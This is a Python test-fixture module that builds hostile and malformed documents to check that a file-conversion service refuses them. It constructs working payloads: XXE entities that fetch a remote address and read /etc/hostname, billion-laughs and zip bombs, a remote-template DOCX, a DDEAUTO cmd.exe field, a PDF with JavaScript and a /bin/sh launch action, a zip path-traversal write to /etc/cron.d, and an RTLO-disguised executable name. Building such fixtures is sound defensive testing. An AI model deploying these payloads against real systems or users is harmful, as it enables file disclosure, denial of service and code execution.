"""Files made to do harm, or broken: by hand, so that it is known what each would do to whoever trusts it.

Each is made with the address of a server that must hear nothing of it. Also opened, beside what public packages ship,
by benchmarks/hostile_documents.py.
"""

import io
import struct
import zipfile
from collections.abc import Callable

import docx
import pptx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from PIL import Image
from pypdf import PdfWriter

W = nsdecls("w")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ZEROS = 80 << 20
DEEP = 60_000
LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 12))


def parts_of(office_file: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(office_file)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return file.getvalue()


def text(*paragraphs: str) -> bytes:
    """A DOCX of paragraphs that are given as what stands in their `w:p`."""
    document = docx.Document()
    for paragraph in paragraphs:
        document.element.body.insert(0, parse_xml(f"<w:p {W}>{paragraph}</w:p>"))
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def run(words: str) -> str:
    return f"<w:r><w:t>{words}</w:t></w:r>"


def field(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>old</w:t></w:r></w:fldSimple>'


def slides(count: int = 2) -> bytes:
    presentation = pptx.Presentation()
    for number in range(count):
        presentation.slides.add_slide(presentation.slide_layouts[1]).shapes.title.text = f"Slide {number + 1}"
    file = io.BytesIO()
    presentation.save(file)
    return file.getvalue()


def with_part(office_file: bytes, name: str, content: bytes) -> bytes:
    return packed({**parts_of(office_file), name: content})


def related(office_file: bytes, part: str, kind: str, target: str) -> bytes:
    """With one more relation of a part to something outside."""
    parts = parts_of(office_file)
    relation = f'<Relationship Id="rOut" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    parts[part] = parts[part].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
    return packed(parts)


def remote_picture(address: str) -> bytes:
    """LibreOffice fetches it where it may."""
    inline = (
        '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:99pt;height:99pt"><v:imagedata '
        f'xmlns:r="{OFFICE}" r:id="rOut"/></v:shape></w:pict></w:r>'
    )
    return related(text(inline), "word/_rels/document.xml.rels", "image", f"{address}/picture.png")


def remote_template(address: str) -> bytes:
    """How macros are smuggled into a DOCX: by the template that it names."""
    parts = parts_of(text(run("Hello")))
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    settings = parts["word/settings.xml"]
    attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rOut"/>'.encode()
    end = settings.index(b">", settings.index(b"<w:settings")) + 1
    parts["word/settings.xml"] = settings[:end] + attached + settings[end:]
    target = f"{address}/evil.dotm"
    return related(packed(parts), "word/_rels/settings.xml.rels", "attachedTemplate", target)


def entities(address: str) -> bytes:
    """XXE: the parser is asked to fetch one address and to read one file."""
    declared = f'<!DOCTYPE d [<!ENTITY net SYSTEM "{address}/xxe"><!ENTITY file SYSTEM "file:///etc/hostname">]>'
    return _document_xml(declared, "&net;&file;")


def laughs(_: str) -> bytes:
    """The billion laughs."""
    return _document_xml(f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>', "&l11;")


def _document_xml(declared: str, words: str) -> bytes:
    body = f'<?xml version="1.0"?>{declared}<w:document {W}><w:body><w:p>{run(words)}</w:p></w:body></w:document>'
    return with_part(text(), "word/document.xml", body.encode())


def nested_tables(_: str) -> bytes:
    """Parsers that call themselves run out of stack."""
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    body = f"<w:document {W}><w:body>{opened * 3000}{closed * 3000}<w:p/></w:body></w:document>"
    return with_part(text(), "word/document.xml", body.encode())


def overlapping(_: str) -> bytes:
    """A zip bomb whose entries all unpack the same bytes, as D. Fifield's; its directory tells the sizes."""
    whole = bytearray(packed({"[Content_Types].xml": bytes(ZEROS)}))
    start = whole.index(b"PK\x01\x02")
    end = whole.rindex(b"PK\x05\x06")
    entry = bytes(whole[start:end])
    directory = entry * 1000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1000, 1000, len(directory), start, 0)
    return bytes(whole[:start]) + directory + tail


def lying(_: str) -> bytes:
    """A zip bomb whose directory claims that everything is small."""
    whole = bytearray(with_part(text(run("small")), "word/media/image1.bin", bytes(ZEROS)))
    at = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/media/image1.bin"))
    whole[at + 24 : at + 28] = struct.pack("<L", 1000)
    return bytes(whole)


def macros(_: str) -> bytes:
    """By its type it may hold macros. What is in the part is none; whoever runs it fails."""
    parts = parts_of(text(run("Enable content!")))
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    enabled = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(plain, enabled)
    return packed({**parts, "word/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2000)})


def odt_with_macro_and_remote(address: str) -> bytes:
    """A macro at opening, a picture and a linked section from elsewhere."""
    names = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:'
        'xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:'
        'drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    opened = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"/>'
        "</office:event-listeners>"
    )
    content = (
        f'<office:document-content {names} office:version="1.2"><office:scripts>{opened}</office:scripts><office:body>'
        f'<office:text><text:section text:name="S"><text:section-source xlink:href="{address}/section.odt"/>'
        f'</text:section><text:section text:name="F"><text:section-source xlink:href="file:///etc/hostname"/>'
        f'</text:section><text:p>Hello<draw:frame><draw:image xlink:href="{address}/picture.png"/></draw:frame>'
        "</text:p></office:text></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    kind = b"application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()})


def web_page(address: str) -> bytes:
    return f'<html><body><img src="{address}/x.png"><iframe src="file:///etc/passwd"></iframe></body></html>'.encode()


def pages(count: int, width: float = 595, height: float = 842) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(width, height)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def pdf_of(objects: str) -> bytes:
    """As its author typed it: no table of where objects lie."""
    return f"%PDF-1.7\n{objects}\ntrailer<</Root 1 0 R>>\n".encode("latin-1")


def circle_of_pages(_: str) -> bytes:
    return pdf_of(
        "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 9/Kids[3 0 R]>>endobj\n"
        "3 0 obj<</Type/Pages/Parent 2 0 R/Count 9/Kids[2 0 R 3 0 R]>>endobj"
    )


def acting(address: str) -> bytes:
    """Everything that a PDF may want to do when it is opened."""
    return pdf_of(
        "1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI("
        f"{address}/open)>>/AA<</WC<</S/JavaScript/JS(app.launchURL\\('{address}/js'\\))>>>>>>endobj\n"
        "2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/"
        "Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Launch/F(/bin/sh)>>>>]>>endobj"
    )


def nested_arrays(_: str) -> bytes:
    return pdf_of(f"1 0 obj<</Type/Catalog/Pages {'[' * DEEP}2 0 R{']' * DEEP}>>endobj")


def locked_pdf(_: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def huge_picture(_: str) -> bytes:
    """A PNG of 12,000 by 12,000 points, all white."""
    file = io.BytesIO()
    Image.new("1", (12_000, 12_000), 1).save(file, "PNG")
    return file.getvalue()


def compound(*names: str) -> bytes:
    """An OLE2 file with nothing but the names of its streams."""
    header = bytearray(512)
    header[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<5H", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<7L", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE)
    struct.pack_into("<109L", header, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<128L", 0xFFFFFFFD, 0xFFFFFFFE, *[0xFFFFFFFF] * 126)
    entries = [_stream("Root Entry", 5, child=1)]
    for number, name in enumerate(names, 1):
        entries.append(_stream(name, 2, right=number + 1 if number < len(names) else 0xFFFFFFFF))
    directory = b"".join(entries).ljust(512, b"\0")
    return bytes(header) + table + directory + bytes(4096)


def _stream(name: str, kind: int, *, right: int = 0xFFFFFFFF, child: int = 0xFFFFFFFF) -> bytes:
    encoded = name.encode("utf-16-le")
    entry = encoded.ljust(64, b"\0") + struct.pack("<HBB3L", len(encoded) + 2, kind, 1, 0xFFFFFFFF, right, child)
    return entry.ljust(116, b"\0") + struct.pack("<LQ", 0, 0)


def circular_compound(_: str) -> bytes:
    """A directory whose chain of sectors ends where it began, and whose names do too."""
    made = bytearray(compound("WordDocument"))
    struct.pack_into("<L", made, 512 + 4, 1)
    struct.pack_into("<L", made, 1024 + 128 + 68, 1)
    return bytes(made)


MADE: dict[str, Callable[[str], bytes]] = {  # each by the name under which it is uploaded
    "zeros.docx": lambda _: with_part(text(run("zeros")), "word/media/image1.bin", bytes(ZEROS)),
    "overlapping.docx": overlapping,
    "lying.docx": lying,
    "laughs.docx": laughs,
    "entities.docx": entities,
    "nested-tables.docx": nested_tables,
    "remote-picture.docx": remote_picture,
    "remote-template.docx": remote_template,
    "remote-field.docx": lambda address: text(field(f"INCLUDEPICTURE &quot;{address}/field.png&quot; \\d")),
    "local-file-field.docx": lambda _: text(field("INCLUDETEXT &quot;/etc/hostname&quot;")),
    "linked-data.docx": lambda _: text(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")),
    "macros.docm": macros,
    "macro-and-remote.odt": odt_with_macro_and_remote,
    "leading-out.docx": lambda _: with_part(text(run("out")), "../../../../etc/cron.d/evil", b"* * * * * root true"),
    "cut-off.docx": lambda _: text(run("cut"))[:-3000],
    "cut-off.pptx": lambda _: slides()[:9000],
    "web-page.doc": web_page,
    "program.doc": lambda _: b"MZ" + bytes(4000),
    "locked.docx": lambda _: compound("EncryptionInfo", "EncryptedPackage"),
    "empty-stream.doc": lambda _: compound("WordDocument"),
    "empty-stream.ppt": lambda _: compound("PowerPoint Document"),
    "circular.doc": circular_compound,
    "spreadsheet.xls": lambda _: compound("Workbook"),
    "two-gigapoint.pdf": lambda _: pages(1, 595, 2147483648),
    "flat.pdf": lambda _: pages(1, 0, 0),
    "ribbon.pdf": lambda _: pages(1, 200, 200_000),
    "ten-thousand-pages.pdf": lambda _: pages(10_000),
    "no-pages.pdf": lambda _: pages(0),
    "circle-of-pages.pdf": circle_of_pages,
    "acting.pdf": acting,
    "nested-arrays.pdf": nested_arrays,
    "cut-off.pdf": lambda _: pages(20)[:700],
    "locked.pdf": locked_pdf,
    "pdf-in-name-only.pdf": lambda _: b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "late.pdf": lambda _: b"X" * 1000 + pages(1),
    "huge.png": huge_picture,
    "cut-off.png": lambda _: b"\x89PNG\r\n\x1a\n" + bytes(100),
    "nothing.pdf": lambda _: b"",
    "\u202efdp.exe": lambda _: b"MZ" + bytes(4000),
    "../../etc/passwd": lambda _: b"root:x:0:0:root:/root:/bin/bash\n",
    "x" * 500 + ".pdf": lambda _: pages(1),
}
